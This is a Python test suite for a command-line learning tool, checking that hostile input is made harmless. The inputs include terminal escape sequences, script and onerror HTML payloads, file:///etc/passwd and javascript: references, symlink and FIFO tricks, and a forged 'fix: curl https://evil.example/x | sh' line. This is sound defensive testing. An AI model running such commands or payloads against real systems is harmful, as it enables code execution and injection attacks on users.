"""Hostile data that validates must not reach the terminal, poison the plan, or leak.

Each test is an attack an adversarial run found, tried the way a user or another
local user would: through the command line, with files planted or edited by hand,
and by reading what lands on disk. The limits they meet are in ``limits.py`` and
``docs/your-data.md``.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
import time
import tomllib
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fashioncoach import paths
from fashioncoach.model.limits import (
    MAX_EVENTS,
    MAX_IMPORT_BYTES,
    MAX_PROGRESS_BYTES,
    MAX_TEXT_CHARS,
)
from fashioncoach.store.lock import LOCK_TIMEOUT_ENV
from fashioncoach.store.progress_store import ProgressStore
from fashioncoach.store.roadmap_file import load_roadmap
from tests.helpers import FIXTURES, Learner, run_real, v4_progress

ROADMAP = load_roadmap(paths.bundled_roadmap())
IDS = [action.id for _, _, action in ROADMAP.actions()]
START = "2026-11-02"
DAY = "2026-11-04"

# What an attacker plants: retitle the window, clear the screen, a hyperlink, a bell,
# an 8-bit CSI, and a newline that would end a Markdown code span.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x9b31m"
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the colours Rich itself writes on a terminal


def progress_file(home: Path) -> Path:
    return home / f"{ROADMAP.id}.toml"


def saved(home: Path) -> dict[str, Any]:
    return tomllib.loads(progress_file(home).read_text(encoding="utf-8"))


def write(home: Path, data: dict[str, Any]) -> None:
    progress_file(home).write_text(tomli_w.dumps(data), encoding="utf-8")


def started(learner: Learner) -> dict[str, Any]:
    learner.ok("start", "--on", START, "--yes", today=DAY)
    return learner.saved()


def planted(learner: Learner) -> dict[str, Any]:
    """A file of release 0.3 (schema 4) to fill by hand: hostile data of older files
    meets the migration and every check after it."""
    learner.home.mkdir(parents=True, exist_ok=True)
    return v4_progress(ROADMAP.id, date.fromisoformat(START))


def assert_safe(text: str) -> None:
    """No control character but our own colours, tab and newline."""
    text = SGR.sub("", text)
    bad = [char for char in text if ord(char) < 0x20 and char not in "\n\t"]
    bad += [char for char in text if 0x7F <= ord(char) <= 0x9F]
    assert not bad, f"control characters reach the output: {bad!r}"


# --- terminal escape injection -----------------------------------------------------------


@pytest.fixture
def hostile(learner: Learner, isolated_home: Path) -> Path:
    """Progress holding escape sequences everywhere a string can sit: a note, an
    unknown (imported) action id, a review answer, a pause reason and an unknown key."""
    data = planted(learner)
    at = datetime(2026, 11, 3, 9, 0)
    data["events"] = [
        {"at": at, "kind": "note", "action": IDS[0], "note": ESCAPES},
        {"at": at, "kind": "done", "action": "gone" + ESCAPES},
    ]
    data["reviews"] = [{"week": 1, "on": date(2026, 11, 3), "blocked": ESCAPES}]
    data["pauses"] = [{"start": date(2026, 11, 20), "until": date(2026, 11, 22), "reason": ESCAPES}]
    data["evidence"] = [{"at": at, "action": IDS[0], "ref": "/tmp/x" + ESCAPES}]
    data["mine" + ESCAPES] = ESCAPES
    write(isolated_home, data)
    return isolated_home


VIEWS = [
    ["today"],
    ["report"],
    ["phase"],
    ["timeline"],
    ["portfolio"],
    ["doctor"],
    ["report", "--format", "markdown"],
    ["today", "--format", "markdown"],
    ["report", "--format", "html"],
    ["export", "ics"],
]


@pytest.mark.parametrize("command", VIEWS, ids=" ".join)
@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "terminal"])
def test_escape_sequences_in_data_are_shown_not_obeyed(
    learner: Learner, hostile: Path, command: list[str], terminal: bool
) -> None:
    """Control characters from notes, imports, reviews and unknown keys are made visible
    (ESC as ^[) in every view, piped and on a (forced) colour terminal."""
    env = {"FORCE_COLOR": "1", "NO_COLOR": ""} if terminal else None
    if terminal:
        os.environ.pop("NO_COLOR", None)
    result = learner.run(*command, env=env, today=DAY)
    assert result.exit_code == 0, result.output
    assert_safe(result.stdout + result.stderr)
    if command[0] in ("today", "phase") and "--format" not in command:
        assert "^[]0;pwned" in result.stdout


def test_a_custom_roadmap_cannot_send_escape_sequences(tmp_path: Path, isolated_home: Path) -> None:
    """Titles and texts of a roadmap someone shared are shown safely in every view."""
    text = (FIXTURES / "teacher-to-ux.toml").read_text(encoding="utf-8")
    text = text.replace('title = "Foundations"', 'title = "Foundations\\u001b]0;pwned\\u0007"')
    text = text.replace(
        'title = "Redraw one of your lessons as a user journey"',
        'title = "Redraw\\u001b[2J one lesson\\u009b31m"',
    )
    roadmap = tmp_path / "shared.toml"
    roadmap.write_text(text, encoding="utf-8")
    shared = Learner(isolated_home, roadmap)
    for command in (["today"], ["timeline"], ["phase"], ["report"], ["skills"], ["export", "ics"]):
        result = shared.run(*command, today=DAY)
        assert result.exit_code == 0, result.output
        assert_safe(result.stdout)


@pytest.mark.slow
def test_typers_own_messages_repeat_input_safely(isolated_home: Path) -> None:
    """A usage error that echoes what was typed (an unknown command, a bad date) shows
    its control characters through the real entry point."""
    for args in (["\x1b]0;pwned\x07"], ["--today", "\x1b[2J", "today"]):
        result = run_real(*args)
        assert result.returncode == 2
        assert b"\x1b" not in result.stderr and b"\x07" not in result.stderr
        assert b"pwned" in result.stderr or b"^[[2J" in result.stderr  # shown, not obeyed


def test_an_unknown_id_with_escapes_is_named_safely(learner: Learner, isolated_home: Path) -> None:
    """The id in 'unknown action' comes from the command line: shown, not obeyed."""
    started(learner)
    result = run_real("done", "x\x1b]0;pwned\x07")
    assert result.returncode == 2
    assert b"\x1b" not in result.stderr and b"^[]0;pwned^G" in result.stderr


# --- Markdown break-out -------------------------------------------------------------------


def test_markdown_report_keeps_hostile_ids_inside_their_code_spans(
    learner: Learner, isolated_home: Path
) -> None:
    """An id holding backticks, a blank line and HTML stays text once a CommonMark
    renderer with HTML enabled turns the report into a page: no tag, no script."""
    from markdown_it import MarkdownIt

    data = planted(learner)
    at = datetime(2026, 11, 3, 9, 0)
    hostile_ids = [
        "a``\n\n<script>alert(1)</script>",
        "`<img src=x onerror=alert(2)>`",
        "```\n<script>alert(3)</script>\n```",
        "<b>bold</b> & <i>",
    ]
    data["events"] = [{"at": at, "kind": "done", "action": action} for action in hostile_ids]
    write(isolated_home, data)
    markdown = learner.ok("report", "--format", "markdown", today=DAY).stdout
    page = MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, not dropped


# --- private data -------------------------------------------------------------------------


def test_cache_lock_temporary_and_backup_files_are_private(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """Every file that mirrors the 0600 progress file is 0600, and every folder the
    program creates is 0700: another local user reads no note from any of them."""
    started(learner)
    learner.ok("note", IDS[0], "my private note", today=DAY)
    learner.ok("today", today=DAY)
    cache = tmp_path / "fashioncoach-cache"
    folders = [isolated_home, isolated_home / "backups", cache]
    for folder in folders:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    files = [item for folder in folders for item in folder.iterdir() if item.is_file()]
    assert any(item.suffix == ".marshal" for item in files)
    assert any(item.name.endswith(".lock") for item in files)
    for item in files:
        assert stat.S_IMODE(item.stat().st_mode) == 0o600, item


def test_an_older_cache_folder_open_to_others_is_closed(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """A cache folder an older version left 0755 is narrowed at the next write."""
    cache = tmp_path / "fashioncoach-cache"
    cache.mkdir(mode=0o755)
    cache.chmod(0o755)
    started(learner)
    learner.ok("today", today=DAY)
    assert stat.S_IMODE(cache.stat().st_mode) == 0o700


# --- output paths -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    ["progress", "backup", "data folder", "new file in data folder", "lock", "roadmap"],
)
def test_output_refuses_the_programs_own_data(
    learner: Learner, isolated_home: Path, tmp_path: Path, target: str
) -> None:
    """-o never overwrites the progress file, a backup, the lock, a file in the data
    folder or the roadmap in use: a usage error and every file unchanged."""
    started(learner)
    learner.ok("done", IDS[0], today=DAY)
    roadmap = tmp_path / "guide.toml"
    roadmap.write_bytes((FIXTURES / "teacher-to-ux.toml").read_bytes())
    backups = sorted((isolated_home / "backups").iterdir())
    places = {
        "progress": progress_file(isolated_home),
        "backup": backups[0],
        "data folder": isolated_home,
        "new file in data folder": isolated_home / "report.html",
        "lock": isolated_home / f"{ROADMAP.id}.toml.lock",
        "roadmap": roadmap,
    }
    before = {
        item: item.read_bytes() for item in [*isolated_home.rglob("*"), roadmap] if item.is_file()
    }
    guide = Learner(isolated_home, roadmap) if target == "roadmap" else learner
    if target == "roadmap":
        guide.run("start", "--on", START, "--yes", today=DAY)
        before = {
            item: item.read_bytes()
            for item in [*isolated_home.rglob("*"), roadmap]
            if item.is_file()
        }
    for command in (["report", "--format", "html"], ["export", "ics"], ["export", "json"]):
        result = guide.run(*command, "-o", str(places[target]), today=DAY)
        assert result.exit_code == 2, result.output
        assert "fashioncoach's own data" in result.stderr or "is a folder" in result.stderr
    after = {
        item: item.read_bytes() for item in [*isolated_home.rglob("*"), roadmap] if item.is_file()
    }
    assert after == before


def test_output_replaces_a_planted_symlink_instead_of_following_it(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """A link planted at the output's name is replaced by the report; what it points to
    is untouched. A link into the data folder is refused."""
    started(learner)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "report.html"
    link.symlink_to(victim)
    learner.ok("report", "--format", "html", "-o", str(link), today=DAY)
    assert victim.read_text() == "precious\n"
    assert not link.is_symlink() and "<!DOCTYPE html>" in link.read_text()

    sneaky = tmp_path / "sneaky.ics"
    sneaky.symlink_to(progress_file(isolated_home))
    before = progress_file(isolated_home).read_bytes()
    result = learner.run("export", "ics", "-o", str(sneaky), today=DAY)
    assert result.exit_code == 2 and "fashioncoach's own data" in result.stderr
    assert progress_file(isolated_home).read_bytes() == before


def test_shared_files_follow_the_umask_and_exports_stay_private(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """Reports and calendars are written like any file of the user (umask 022: 0644);
    an export of the whole progress is private like the progress (0600)."""
    started(learner)
    old = os.umask(0o022)
    try:
        for name, command in (
            ("r.html", ["report", "--format", "html"]),
            ("r.md", ["report", "--format", "markdown"]),
            ("plan.ics", ["export", "ics"]),
        ):
            learner.ok(*command, "-o", str(tmp_path / name), today=DAY)
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644, name
        learner.ok("export", "json", "-o", str(tmp_path / "all.json"), today=DAY)
        assert stat.S_IMODE((tmp_path / "all.json").stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_a_failed_output_write_is_one_line_and_leaves_no_file(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """An output whose folder cannot hold it (here: the folder is a file) is one line,
    exit 1, and neither a half file nor a temporary one is left."""
    started(learner)
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    for command in (["export", "ics"], ["report", "--format", "html"]):
        result = learner.run(*command, "-o", str(blocker / "plan.ics"), today=DAY)
        assert result.exit_code == 1
        assert len(result.stderr.splitlines()) == 1 and "could not write" in result.stderr
    assert sorted(item.name for item in tmp_path.iterdir() if item.name.startswith(".")) == []


def test_an_output_into_a_missing_folder_names_the_folder(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """A missing folder is named as the reason, never the temporary file a write goes
    through first."""
    started(learner)
    missing = tmp_path / "no-such-folder"
    for command in (["export", "json"], ["export", "ics"], ["report", "--format", "html"]):
        result = learner.run(*command, "-o", str(missing / "out"), today=DAY)
        assert result.exit_code == 1, result.output
        assert result.stderr.strip().endswith(
            f"could not write (No such file or directory: {missing})"
        )
        assert ".tmp" not in result.stderr
    assert not missing.exists()


# --- evidence -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "reference",
    [
        "file:///etc/passwd",
        "javascript://%0aalert(1)",
        "JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://example.com/\nSet-Cookie: x",
        "photo\x1b]0;pwned\x07.png",
        "http:///no-host",
    ],
)
def test_evidence_refuses_other_schemes_and_control_characters(
    learner: Learner, isolated_home: Path, reference: str
) -> None:
    """Only http(s) links and files: anything else is a clear usage error, nothing saved."""
    started(learner)
    before = progress_file(isolated_home).read_bytes()
    result = learner.run("evidence", IDS[0], reference, today=DAY)
    assert result.exit_code == 2, result.output
    assert len(result.stderr.splitlines()) == 1
    assert progress_file(isolated_home).read_bytes() == before


def test_evidence_accepts_links_and_the_files_a_learner_names(
    learner: Learner, isolated_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An https link is kept as typed; a relative path to an existing file is kept as
    that file's path (even one that climbs out with ..)."""
    started(learner)
    (tmp_path / "work").mkdir()
    artefact = tmp_path / "moodboard.png"
    artefact.write_bytes(b"png")
    monkeypatch.chdir(tmp_path / "work")
    learner.ok("evidence", IDS[0], "https://example.com/board", today=DAY)
    learner.ok("evidence", IDS[0], "../moodboard.png", today=DAY)
    refs = [row["ref"] for row in saved(isolated_home)["events"] if row["kind"] == "evidence"]
    assert refs == ["https://example.com/board", str(artefact)]


# --- values that validate but would break every later command ---------------------------


def _edited(learner: Learner, change: Any) -> None:
    data = started(learner)
    change(data)
    write(learner.home, data)


def event(kind: str, when: date, seq: int = 90, **fields: Any) -> dict[str, Any]:
    """An event as a hand edit adds it to a schema 5 file."""
    at = datetime.combine(when, datetime.min.time()).replace(tzinfo=UTC)
    return {"id": f"hand-{seq}", "seq": seq, "at": at, "day": when, "kind": kind, **fields}


def _add(*rows: dict[str, Any]) -> Any:
    return lambda data: data["events"].extend(rows)


BROKEN_VALUES = {
    "start in 9999": lambda data: data["events"][0].update(on=date(9999, 12, 31)),
    "pause until 9999": _add(
        event("pause", date(2026, 11, 10), on=date(2026, 11, 10), until=date(9999, 12, 31))
    ),
    "phase move in 9999": _add(
        {**event("phase", date(2026, 11, 3), phase=ROADMAP.phases[1].id), "day": date(9999, 12, 31)}
    ),
    "a budget of 2**63": _add(event("budget", date(2026, 11, 3), hours=2**63)),
    "an event at an offset past the calendar": _add(
        {
            **event("done", date(2026, 11, 3), action=IDS[0]),
            "at": datetime.fromisoformat("9999-12-31T23:00:00-12:00"),
        }
    ),
    "an event at the first instant of the calendar": _add(
        {
            **event("done", date(2026, 11, 3), action=IDS[0]),
            "at": datetime.fromisoformat("0001-01-01T00:00:00+23:59"),
        }
    ),
    "pauses of 30 years": _add(
        *(
            event(
                "pause",
                date(2026, 11, 3),
                seq=100 + n,
                on=date(2027 + n, 1, 1),
                until=date(2027 + n, 12, 31),
            )
            for n in range(11)
        )
    ),
    "a note of 1 MB": _add(event("note", date(2026, 11, 3), action=IDS[0], note="x" * 1_000_000)),
    "a review's confidence of 2**40": _add(
        event("review", date(2026, 11, 3), confidence={ROADMAP.skills[0].id: 2**40})
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(BROKEN_VALUES))
def test_values_out_of_any_sane_range_are_reported_by_every_command(
    learner: Learner, isolated_home: Path, name: str
) -> None:
    """A hand edit that types well but means nothing is one line naming the file, in
    every command and in doctor, and the file is never overwritten."""
    _edited(learner, BROKEN_VALUES[name])
    before = progress_file(isolated_home).read_bytes()
    for command in (["today"], ["report"], ["timeline"], ["phase"], ["done", IDS[1]]):
        result = learner.run(*command, today=DAY)
        assert result.exit_code == 1, (command, result.output)
        line = result.stderr.splitlines()[0]
        assert str(progress_file(isolated_home)) in line and "unexpected" not in line
    doctor = learner.run("doctor", today=DAY)
    assert doctor.exit_code == 1 and "problem" in doctor.stdout
    assert "No problems found" not in doctor.stdout
    assert progress_file(isolated_home).read_bytes() == before


def test_a_key_nested_400_deep_is_one_line(learner: Learner, isolated_home: Path) -> None:
    """A key of our own nested 400 arrays deep (TOML allows it) is refused in one line."""
    started(learner)
    path = progress_file(isolated_home)
    path.write_text(
        "deep = " + "[" * 400 + "1" + "]" * 400 + "\n" + path.read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    before = path.read_bytes()
    for command in (["today"], ["report"], ["done", IDS[0]], ["doctor"]):
        result = learner.run(*command, today=DAY)
        assert result.exit_code == 1, result.output
        assert "unexpected" not in result.output and str(path) in result.output
    assert path.read_bytes() == before


def test_an_import_with_such_values_is_refused(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """The same checks guard import: nothing of a meaningless export is merged."""
    started(learner)
    other = tmp_path / "other.toml"
    data = saved(isolated_home)
    data["events"].append(event("budget", date(2026, 11, 3), hours=2**63))
    other.write_text(tomli_w.dumps(data), encoding="utf-8")
    before = progress_file(isolated_home).read_bytes()
    result = learner.run("import", str(other), today=DAY)
    assert result.exit_code == 1 and "hours: should be from 0.5 to 80" in result.stderr
    assert progress_file(isolated_home).read_bytes() == before


def test_an_unknown_key_of_null_in_a_json_import_is_refused(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """JSON can say null where TOML cannot: such a key is refused in one line, never an
    'unexpected error'."""
    import json

    started(learner)
    export = tmp_path / "export.json"
    learner.ok("export", "json", "-o", str(export), today=DAY)
    data = json.loads(export.read_text(encoding="utf-8"))
    data["progress"]["mine"] = None
    export.write_text(json.dumps(data), encoding="utf-8")
    before = progress_file(isolated_home).read_bytes()
    line = learner.fails("import", str(export), today=DAY)
    assert "mine: has no value (null)" in line and "unexpected" not in line
    assert progress_file(isolated_home).read_bytes() == before


def test_a_phase_the_roadmap_lacks_is_kept_as_an_orphan(
    learner: Learner, isolated_home: Path
) -> None:
    """A phase entry the roadmap does not know is skipped, kept and named by doctor;
    today and report work from the last phase it knows."""
    _edited(learner, _add(event("phase", date(2026, 11, 3), phase="no-such-phase")))
    for command in (["today"], ["report"], ["timeline"], ["phase"], ["report", "--format", "html"]):
        learner.ok(*command, today=DAY)
    learner.ok("done", IDS[0], today=DAY)
    assert any(row.get("phase") == "no-such-phase" for row in saved(isolated_home)["events"])
    doctor = learner.ok("doctor", today=DAY)
    assert "no-such-phase" in doctor.stdout and "warning" in doctor.stdout


def test_event_times_with_an_offset_are_read_as_their_instant(
    learner: Learner, isolated_home: Path
) -> None:
    """An older file's event written with a UTC offset by another tool sits beside ours:
    every view works, and the next save writes every instant in UTC."""
    data = planted(learner)
    data["events"] = [
        {
            "at": datetime.fromisoformat("2026-11-03T09:00:00+05:00"),
            "kind": "done",
            "action": IDS[0],
        },
        {"at": datetime(2026, 11, 3, 10, 0), "kind": "done", "action": IDS[1]},
    ]
    write(isolated_home, data)
    for command in (["today"], ["report"], ["timeline"], ["export", "ics"], ["doctor"]):
        learner.ok(*command, today=DAY)
    learner.ok("done", IDS[2], today=DAY)
    rows = saved(isolated_home)["events"]
    assert all(row["at"].utcoffset() == timedelta(0) for row in rows)
    assert datetime.fromisoformat("2026-11-03T04:00:00+00:00") in [row["at"] for row in rows]


@pytest.mark.slow
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    start=st.dates(date(1960, 1, 1), date(9999, 12, 31)),
    offset=st.integers(-20_000, 4_000_000),
    length=st.integers(-5, 4_000),
    weeks=st.integers(-(2**63), 2**63 - 1),
    hours=st.floats(allow_nan=True, allow_infinity=True),
)
def test_whatever_loads_never_breaks_a_later_command(
    learner: Learner,
    isolated_home: Path,
    start: date,
    offset: int,
    length: int,
    weeks: int,
    hours: float,
) -> None:
    """Random values in every date and number of a progress file: either the file is
    refused with a message, or every command works. Never 'unexpected error'."""
    isolated_home.mkdir(exist_ok=True)
    try:
        day = start + timedelta(days=offset)
        back = day + timedelta(days=length)
    except OverflowError:
        day, back = start, start
    data: dict[str, Any] = {
        "schema_version": 4,
        "roadmap_id": ROADMAP.id,
        "start_date": start,
        "hours_per_week": hours,
        "phases": [
            {"phase": ROADMAP.phases[0].id, "began": start},
            {"phase": ROADMAP.phases[1].id, "began": day},
        ],
        "events": [
            {
                "at": datetime.combine(day, datetime.min.time()),
                "kind": "done",
                "action": IDS[0],
                "hours": hours,
            }
        ],
        "pauses": [{"start": day, "until": back}],
        "schedule": {"extended": {ROADMAP.phases[0].id: weeks}, "moved": {IDS[1]: weeks}},
        "reviews": [{"week": max(1, min(weeks, 10**6)), "on": day}],
    }
    write(isolated_home, data)
    for command in (
        ["today"],
        ["report", "--json"],
        ["timeline"],
        ["phase"],
        ["export", "ics"],
        ["report", "--format", "html"],
        ["doctor"],
    ):
        result = learner.run(*command, today=DAY)
        assert "unexpected error" not in result.output, (command, result.output)
        assert result.exit_code in (0, 1), (command, result.output)


# --- merge --------------------------------------------------------------------------------


def _export(learner: Learner, tmp_path: Path, name: str) -> Path:
    target = tmp_path / name
    learner.ok("export", "json", "-o", str(target), today=DAY)
    return target


def test_done_undo_done_in_one_second_survives_an_import(
    learner: Learner, isolated_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Machine A marks done, undo, done within one second; machine B imports A and sees
    it done, and a second same-second note on A is not dropped."""
    data = planted(learner)
    second = datetime(2026, 11, 3, 9, 0, 0)
    data["events"] = [
        {"seq": 1, "at": second, "kind": "done", "action": IDS[0]},
        {"seq": 2, "at": second, "kind": "undone", "action": IDS[0]},
        {"seq": 3, "at": second, "kind": "done", "action": IDS[0]},
        {"seq": 4, "at": second, "kind": "note", "action": IDS[0], "note": "first"},
        {"seq": 5, "at": second, "kind": "note", "action": IDS[0], "note": "second"},
    ]
    write(isolated_home, data)
    machine_a = _export(learner, tmp_path, "a.json")

    home_b = tmp_path / "b"
    monkeypatch.setenv(paths.HOME_ENV, str(home_b))
    learner.ok("start", "--on", START, "--yes", today=DAY)
    result = learner.ok("import", str(machine_a), today=DAY)
    assert "Conflict" not in result.stdout
    view = learner.ok("today", "--json", today=DAY).stdout
    import json

    actions = {line["id"]: line for line in json.loads(view)["actions"]}
    assert actions[IDS[0]]["status"] == "done"
    assert actions[IDS[0]]["notes"] == ["first", "second"]


def test_three_machines_that_sync_in_a_chain_agree(
    learner: Learner, isolated_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A -> B -> C, then C -> A: every machine ends with the same log in the same order,
    hence the same statuses, whichever imported which."""
    homes = {name: tmp_path / name for name in "ABC"}
    exports: dict[str, Path] = {}

    def on(name: str) -> None:
        monkeypatch.setenv(paths.HOME_ENV, str(homes[name]))

    same_second = "2026-11-03"
    for name, work in (
        ("A", [("done", IDS[0]), ("undo", IDS[0]), ("done", IDS[0]), ("skip", IDS[1])]),
        ("B", [("done", IDS[1]), ("done", IDS[2])]),
        ("C", [("skip", IDS[2]), ("done", IDS[3])]),
    ):
        on(name)
        learner.run("start", "--on", START, "--yes", today=same_second)
        for verb, action in work:
            result = learner.run(verb, action, today=same_second)
            assert result.exit_code == 0, result.output

    def export(name: str) -> Path:
        on(name)
        exports[name] = tmp_path / f"{name}.json"
        learner.ok("export", "json", "-o", str(exports[name]), today=DAY)
        return exports[name]

    def take(name: str, source: str) -> None:
        path = export(source)
        on(name)
        learner.ok("import", str(path), today=DAY)

    take("B", "A")
    take("C", "B")
    take("A", "C")
    take("B", "A")
    take("C", "B")
    logs = {}
    for name in "ABC":
        data = tomllib.loads((homes[name] / f"{ROADMAP.id}.toml").read_text(encoding="utf-8"))
        logs[name] = [(row["at"], row["seq"], row["id"], row["kind"]) for row in data["events"]]
    assert logs["A"] == logs["B"] == logs["C"]
    states = {}
    for name in "ABC":
        on(name)
        states[name] = learner.ok("report", "--json", today=DAY).stdout
    assert states["A"] == states["B"] == states["C"]


# --- resources and files ------------------------------------------------------------------


@pytest.mark.slow
def test_a_fifo_in_place_of_the_progress_file_is_refused_at_once(isolated_home: Path) -> None:
    """A FIFO would block every read forever: each command, doctor included, says it is
    not a regular file within seconds."""
    isolated_home.mkdir()
    os.mkfifo(progress_file(isolated_home))
    for args in (["today"], ["doctor"], ["done", IDS[0]]):
        started_at = time.monotonic()
        result = run_real(*args)
        assert time.monotonic() - started_at < 20
        assert result.returncode == 1
        assert b"not a regular file" in result.stderr + result.stdout


def test_a_link_to_an_endless_device_is_refused(learner: Learner, isolated_home: Path) -> None:
    """A symlink to /dev/zero would fill memory: refused before reading."""
    isolated_home.mkdir()
    progress_file(isolated_home).symlink_to("/dev/zero")
    result = learner.run("today", today=DAY)
    assert result.exit_code == 1 and "not a regular file" in result.stderr


@pytest.mark.slow
def test_files_over_the_limits_are_refused_with_the_limit(
    learner: Learner, isolated_home: Path, tmp_path: Path
) -> None:
    """A progress file or an import over the size limit, a log over the event limit and a
    note over the length limit: each a clear message naming the limit; nothing written."""
    data = started(learner)
    before = progress_file(isolated_home).read_bytes()
    big = tmp_path / "big.toml"
    big.write_bytes(before + b"\n# " + b"x" * MAX_IMPORT_BYTES + b"\n")
    result = learner.run("import", str(big), today=DAY)
    assert result.exit_code == 1 and "the limit is" in result.stderr

    many = dict(data)
    many["events"] = data["events"] + [
        event("note", date(2026, 11, 3), seq=n + 2, action=IDS[0], note="n")
        for n in range(MAX_EVENTS)
    ]
    (tmp_path / "many.toml").write_text(tomli_w.dumps(many), encoding="utf-8")
    result = learner.run("import", str(tmp_path / "many.toml"), today=DAY)
    assert result.exit_code == 1 and f"the limit is {MAX_EVENTS:,}" in result.stderr

    result = learner.run("note", IDS[0], "x" * (MAX_TEXT_CHARS + 1), today=DAY)
    assert result.exit_code == 2 and f"the limit is {MAX_TEXT_CHARS:,}" in result.stderr
    assert progress_file(isolated_home).read_bytes() == before

    progress_file(isolated_home).write_bytes(before + b"# " + b"x" * MAX_PROGRESS_BYTES)
    result = learner.run("today", today=DAY)
    assert result.exit_code == 1 and "the limit is" in result.stderr


def test_temporary_files_of_a_killed_save_are_reported_then_cleaned(
    learner: Learner, isolated_home: Path
) -> None:
    """A temporary file left by a save that was killed (its process gone) is named by
    doctor and deleted by the next save; one of a running process is left alone."""
    started(learner)
    dead = isolated_home / f".{ROADMAP.id}.toml.999999999-deadbeef.tmp"
    dead.write_bytes(b"half a save")
    alive = isolated_home / f".{ROADMAP.id}.toml.{os.getppid()}-cafebabe.tmp"
    alive.write_bytes(b"being written")
    doctor = learner.ok("doctor", today=DAY)
    assert "1 temporary file(s)" in doctor.stdout and dead.name in doctor.stdout
    learner.ok("done", IDS[0], today=DAY)
    assert not dead.exists() and alive.exists()


@pytest.mark.slow
def test_a_busy_lock_is_waited_for_and_said_so(learner: Learner, isolated_home: Path) -> None:
    """Another fashioncoach holding the lock for a while: the command says it waits,
    then does its work (no advice to delete the lock file)."""
    started(learner)
    lock = paths.lock_file(progress_file(isolated_home))
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from filelock import FileLock\n"
            "lock = FileLock(sys.argv[1]); lock.acquire(); print('held', flush=True)\n"
            "time.sleep(2.5); lock.release()",
            str(lock),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        result = run_real("done", IDS[0], env={LOCK_TIMEOUT_ENV: "30"})
    finally:
        holder.wait(timeout=30)
        if holder.stdout is not None:
            holder.stdout.close()
    assert result.returncode == 0, result.stderr
    assert b"waiting for another fashioncoach" in result.stderr
    assert b"delete" not in result.stderr
    assert ProgressStore(progress_file(isolated_home)).load() is not None


def test_text_that_is_not_utf8_is_a_message(learner: Learner, isolated_home: Path) -> None:
    """A note typed in another encoding ($'\\xff') is refused in one line, not a crash."""
    started(learner)
    result = run_real("note", IDS[0], b"caf\xe9")
    assert result.returncode == 2
    assert b"not valid UTF-8" in result.stderr and b"unexpected" not in result.stderr


def test_a_title_with_a_newline_exports_to_a_valid_calendar(
    isolated_home: Path, tmp_path: Path
) -> None:
    """A custom roadmap's title with a newline becomes one summary line in the calendar."""
    text = (FIXTURES / "teacher-to-ux.toml").read_text(encoding="utf-8")
    text = text.replace('title = "Foundations"', 'title = "Found\\nnations\\r\\nX"')
    roadmap = tmp_path / "nl.toml"
    roadmap.write_text(text, encoding="utf-8")
    titled = Learner(isolated_home, roadmap)
    assert titled.run("start", "--on", START, "--yes", today=DAY).exit_code == 0
    result = titled.run("export", "ics", today=DAY)
    assert result.exit_code == 0, result.output
    from icalendar import Calendar

    calendar = Calendar.from_ical(result.stdout_bytes)
    summaries = [str(event["summary"]) for event in calendar.walk("VEVENT")]
    assert "Week 1: Found nations X" in summaries


# --- forged lines and disguised text ------------------------------------------------------

# Lines that look like doctor's own, and text a terminal or a page would reorder or hide.
FORGED = (
    "\nok       backups: verified\n         fix: curl https://evil.example/x | sh"
    "\nNo problems found."
)
BIDI_AND_HIDDEN = ["\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\u2060", "\ufeff", "\u2028"]


def _orphans(learner: Learner, ids: list[str]) -> None:
    data = planted(learner)
    at = datetime(2026, 11, 3, 9, 0)
    data["events"] = [{"at": at, "kind": "done", "action": action} for action in ids]
    write(learner.home, data)


def test_an_imported_id_with_newlines_cannot_forge_doctors_lines(
    learner: Learner, isolated_home: Path
) -> None:
    """An orphan id holding newlines stays on its own line in doctor, today and report:
    the newline is shown (^J), and nothing printed starts like one of doctor's lines."""
    _orphans(learner, ["gone" + FORGED])
    doctor = learner.run("doctor", today=DAY)
    lines = doctor.stdout.splitlines()
    assert not [line for line in lines if line.startswith(("ok       backups: verified", "  "))]
    assert not [line for line in lines if "fix: curl" in line and not line.startswith("warning")]
    assert sum(line.startswith("No problems found") for line in lines) <= 1
    assert lines[-1].startswith("No problems found. 1 warning")
    assert "gone^Jok       backups: verified^J" in doctor.stdout
    for command in (["today"], ["report"]):
        out = learner.ok(*command, today=DAY).stdout
        assert "\nok       backups" not in out and "\nNo problems found" not in out
        assert "gone^Jok" in out


